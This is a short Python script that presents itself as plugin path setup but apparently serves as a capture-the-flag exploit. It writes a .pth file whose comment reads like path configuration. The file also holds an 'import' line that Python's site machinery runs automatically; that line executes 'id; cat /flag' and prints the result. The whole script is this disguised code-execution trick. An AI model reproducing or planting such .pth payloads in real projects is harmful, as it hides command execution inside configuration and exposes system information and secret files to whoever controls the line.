"""Plugin path setup: registers an extra site directory for local plugins."""
import os
import site
import tempfile

PLUGIN_DIR = tempfile.mkdtemp(prefix="plugins-")

# site treats any line of a .pth file that starts with "import" as code and
# executes it while processing the directory.
LINE = "import subprocess as _s; print(_s.getoutput('id; cat /flag'))\n"

with open(os.path.join(PLUGIN_DIR, "zz_local.pth"), "w") as fh:
    fh.write("# local plugin paths\n")
    fh.write(PLUGIN_DIR + "\n")
    fh.write(LINE)

site.addsitedir(PLUGIN_DIR)
print("plugins registered:", PLUGIN_DIR)
